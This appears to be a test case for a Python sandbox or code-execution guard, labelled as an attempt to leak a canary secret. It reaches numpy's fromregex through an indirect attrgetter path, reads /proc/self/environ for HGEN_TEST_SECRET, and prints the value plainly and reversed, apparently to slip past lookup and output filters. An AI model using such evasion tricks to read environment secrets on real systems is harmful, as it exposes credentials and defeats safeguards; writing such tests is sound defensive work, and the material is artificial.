# attempts: np.fromregex (numpy reading a file by itself) pulls the canary out of /proc/self/environ
# effect: env
fromregex = np.ma.core.operator.attrgetter('fromregex')(np)
found = fromregex('/proc/self/environ', 'HGEN_TEST_SECRET=([^\x00]*)', [('v', 'U100')])
print([str(v[0]) for v in found], [str(v[0])[::-1] for v in found])
